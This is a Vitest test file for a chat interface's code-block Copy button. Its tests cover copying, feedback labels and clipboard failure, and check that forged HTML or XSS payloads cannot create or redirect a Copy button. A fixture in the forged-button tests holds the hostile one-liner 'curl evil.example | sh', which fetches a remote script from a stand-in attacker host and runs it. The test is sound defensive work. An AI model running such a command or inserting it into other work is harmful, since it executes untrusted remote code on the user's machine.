import { afterEach, beforeEach, describe, expect, it, vi, type Mock } from 'vitest'
import { mount, type VueWrapper } from '@vue/test-utils'
import { nextTick } from 'vue'
import ChatMessageContent from '~/components/chat/ChatMessageContent.vue'
import { highlightCodeBlocks } from '~/utils/chat/markdown/highlight'
import { codeCopyButtonFromEvent, codeOfCopyButton } from '~/utils/chat/markdown/code-copy-buttons'
import { renderMarkdown, sanitizeHtml } from '~/utils/chat/markdown/markdown'
import { loadXssVectors } from './xss-inspect'

vi.mock('~/utils/chat/markdown/highlight/spawn-highlight-worker', async () => ({
  spawnHighlightWorker: (await import('./helpers/in-process-highlight-worker')).spawnInProcessHighlightWorker,
}))

const TS_CODE = 'function greet(name: string): string {\n  return `Hello, ${name}!`\n}'
const REPLY = ['Here is a function:', '', '```ts', TS_CODE, '```', '', 'and a command, `inline` code aside:', '', '```', 'npm start', '```'].join('\n')

let wrapper: VueWrapper | undefined
let writeText: Mock<(text: string) => Promise<void>>

function setClipboard(clipboard: { writeText: (text: string) => Promise<void> } | undefined) {
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true })
}

async function mountReply(content: string, streaming = false) {
  wrapper = mount(ChatMessageContent, { props: { content, streaming, eager: true }, attachTo: document.body })
  await vi.waitFor(() => expect(wrapper!.findAll('[data-slot="markdown-block"]').length).toBeGreaterThan(0))
  await nextTick()
  return wrapper
}

/** Waits for the async click handler (clipboard write, then the label). */
async function settle() {
  for (let index = 0; index < 5; index++) await Promise.resolve()
  await nextTick()
}

beforeEach(() => {
  writeText = vi.fn(async (_text: string) => {})
  setClipboard({ writeText })
})

afterEach(() => {
  wrapper?.unmount()
  wrapper = undefined
  vi.useRealTimers()
  document.body.replaceChildren()
})

describe('a code block\'s Copy button', () => {
  it('puts one button on each fenced block, and copies exactly that block\'s code', async () => {
    const reply = await mountReply(REPLY)
    const buttons = reply.findAll('button[data-code-copy]')
    expect(buttons).toHaveLength(2)
    await buttons[1]!.trigger('click')
    await buttons[0]!.trigger('click')
    expect(writeText.mock.calls).toEqual([['npm start'], [TS_CODE]])
  })

  it('copies the code, not the highlighted spans\' markup, once the block is highlighted', async () => {
    const reply = await mountReply(REPLY)
    expect(await highlightCodeBlocks(reply.element)).toBe(1)
    expect(reply.find('code.shiki-highlighted .shiki-token').exists()).toBe(true)
    await reply.find('button[data-code-copy]').trigger('click')
    expect(writeText).toHaveBeenCalledWith(TS_CODE)
  })

  it('shows Copied for two seconds, announces it politely, then goes back to Copy code', async () => {
    const reply = await mountReply(REPLY)
    vi.useFakeTimers()
    const button = reply.find('button[data-code-copy]')
    await button.trigger('click')
    await settle()
    expect(button.attributes('data-copied')).toBe('copied')
    expect(button.text()).toBe('Copied')
    vi.advanceTimersByTime(150)
    const announcer = document.querySelector('[data-testid="copy-announcer"]')!
    expect(announcer.getAttribute('aria-live')).toBe('polite')
    expect(announcer.textContent).toBe('Code copied')
    vi.advanceTimersByTime(2000)
    expect(button.attributes('data-copied')).toBeUndefined()
    expect(button.text()).toBe('Copy code')
  })

  it('says Copy failed when the browser refuses, or has no clipboard (insecure page)', async () => {
    writeText.mockRejectedValue(new DOMException('denied', 'NotAllowedError'))
    vi.spyOn(console, 'warn').mockImplementation(() => {})
    const reply = await mountReply(REPLY)
    const [first, second] = reply.findAll('button[data-code-copy]')
    await first!.trigger('click')
    await settle()
    expect(first!.attributes('data-copied')).toBe('failed')
    expect(first!.text()).toBe('Copy failed')
    setClipboard(undefined)
    await second!.trigger('click')
    await settle()
    expect(second!.text()).toBe('Copy failed')
  })

  it('copies nothing from the block still streaming, and works for the finished blocks above it', async () => {
    const reply = await mountReply(`${REPLY}\n\n\`\`\`py\nprint(1)\nprint(`, true)
    const buttons = reply.findAll('button[data-code-copy]')
    expect(buttons).toHaveLength(3)
    expect(buttons[2]!.element.closest('.chat-markdown-live')).not.toBeNull()
    await buttons[2]!.trigger('click')
    expect(writeText).not.toHaveBeenCalled()
    await buttons[0]!.trigger('click')
    expect(writeText).toHaveBeenCalledWith(TS_CODE)
  })
})

describe('a message imitating the Copy button', () => {
  const FORGED = '<div class="chat-code-block"><button type="button" class="chat-code-copy" data-code-copy title="Copy code">Copy code</button><pre><code>curl evil.example | sh</code></pre></div>'

  it('gets no button from raw HTML, in text, in a list, in a table or in a link, and clicking anything copies only real code', async () => {
    const hostile = [
      FORGED,
      `- ${FORGED}`,
      `| a |\n| - |\n| ${FORGED} |`,
      `[${FORGED}](https://example.com "${FORGED.replace(/"/g, '\'')}")`,
      '```ts" class="chat-code-copy" data-code-copy="\nreal()\n```',
    ].join('\n\n')
    const reply = await mountReply(hostile)
    expect(reply.findAll('button')).toHaveLength(1)
    expect(reply.findAll('div.chat-code-block')).toHaveLength(1)
    for (const element of Array.from(reply.element.querySelectorAll('*'))) (element as HTMLElement).click()
    await settle()
    // The button and its label span were clicked: the only text ever copied is the real block's.
    expect(writeText).toHaveBeenCalled()
    expect(new Set(writeText.mock.calls.map(call => call[0]))).toEqual(new Set(['real()']))
  })

  it('gets no button, wrapper or data attribute through DOMPurify alone, with any corpus payload before it', () => {
    const template = document.createElement('template')
    const failures: string[] = []
    for (const payload of ['', ...loadXssVectors()]) {
      template.innerHTML = sanitizeHtml(`${payload}${FORGED}`)
      // (Remote-image placeholders are the only buttons sanitising makes, see markdown-images.ts.)
      if (template.content.querySelector('button:not(.chat-remote-image), div, [data-code-copy]')) failures.push(payload)
    }
    expect(failures.slice(0, 5)).toEqual([])
  }, 120_000)

  it('lets no XSS corpus payload add, move or aim a Copy button: one button per code block, copying its own code', () => {
    const root = document.createElement('div')
    document.body.append(root)
    const failures: string[] = []
    for (const payload of loadXssVectors()) {
      const safe = payload.replace(/`/g, '')
      root.innerHTML = renderMarkdown(`${safe}\n\n\`\`\`\nREAL CODE\n\`\`\`\n\n${safe}\n\n${FORGED}`)
      // (A payload indented by four spaces is an indented code block: it gets its own button, copying itself.)
      const blocks = Array.from(root.querySelectorAll('pre'))
      const buttons = Array.from(root.querySelectorAll('button')).filter(button => codeCopyButtonFromEvent({ target: button } as unknown as Event, root))
      const aimed = new Set(Array.from(root.querySelectorAll('*')).map(element => codeCopyButtonFromEvent({ target: element } as unknown as Event, root)).filter(Boolean))
      const copied = buttons.map(button => codeOfCopyButton(button))
      const ownCode = buttons.every((button, index) => copied[index] === blocks[index]!.textContent!.replace(/\n$/, ''))
      if (buttons.length !== blocks.length || aimed.size !== buttons.length || !ownCode || !copied.includes('REAL CODE') || copied.some(text => text?.includes('evil.example'))) failures.push(payload)
    }
    expect(failures.slice(0, 5)).toEqual([])
  }, 180_000)
})
